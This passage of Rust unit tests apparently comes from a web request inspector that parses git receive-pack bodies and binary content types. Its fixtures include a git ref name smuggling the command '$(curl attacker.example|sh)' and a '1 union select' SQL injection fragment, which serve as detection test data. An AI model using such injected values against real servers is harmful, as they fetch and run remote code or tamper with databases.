        assert_eq!(values(&req, Part::ArgPost).len(), 1);
    }

    #[test]
    fn git_push_ref_names_are_arguments() {
        let line = |s: &str| format!("{:04x}{s}", s.len() + 4);
        let zero = "0".repeat(40);
        let body = format!(
            "{}{}0000PACK\u{0}\u{0}\u{0}\u{2}",
            line(&format!("{zero} 1111111111111111111111111111111111111111 refs/heads/main\u{0} report-status side-band-64k agent=git/2.47.1\n")),
            line(&format!("{zero} 2222222222222222222222222222222222222222 refs/heads/$(curl attacker.example|sh)\n")),
        );
        let req = post("application/x-git-receive-pack-request", &body);
        let args = values(&req, Part::ArgPost);
        assert_eq!(
            args,
            [
                ("BODY:records.git.ref".into(), "refs/heads/main".into()),
                (
                    "BODY:records.git.capabilities".into(),
                    " report-status side-band-64k agent=git/2.47.1".into()
                ),
                (
                    "BODY:records.git.ref".into(),
                    "refs/heads/$(curl attacker.example|sh)".into()
                ),
            ]
        );
        // The body is a binary upload: its NUL bytes are the format's.
        assert_eq!(values(&req, Part::BodyBinary).len(), 1);
        // Not pkt-lines: nothing.
        let req = post("application/x-git-receive-pack-request", "zzzz\u{0}PACK");
        assert!(values(&req, Part::ArgPost).is_empty());
    }

    #[test]
    fn binary_types_are_not_arguments() {
        for ct in [
            "application/grpc",
            "image/png",
            "application/octet-stream",
            "application/x-protobuf",
            "application/offset+octet-stream",
            "application/vnd.ms-sync.wbxml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "application/java-archive",
            "application/x-bzip2",
            "application/x-git-receive-pack-request",
        ] {
            let req = post(ct, "\u{0}\u{0}1 union select");
            assert!(values(&req, Part::ArgPost).is_empty(), "{ct}");
            // Binary bytes: inspected as one uploaded file's text, bytes in `BODY_BINARY`.
            assert!(values(&req, Part::Body).is_empty(), "{ct}");
            assert_eq!(
                values(&req, Part::FileContent),
                [("FILES_CONTENT".into(), "1 union select".into())],
                "{ct}"
            );
            assert_eq!(values(&req, Part::BodyBinary).len(), 1, "{ct}");
            // Text sent under a binary type: `BODY`, unchanged.
            let req = post(ct, "1 union select");
            assert_eq!(values(&req, Part::Body).len(), 1, "{ct}");
            assert!(values(&req, Part::BodyBinary).is_empty(), "{ct}");
        }
    }
}
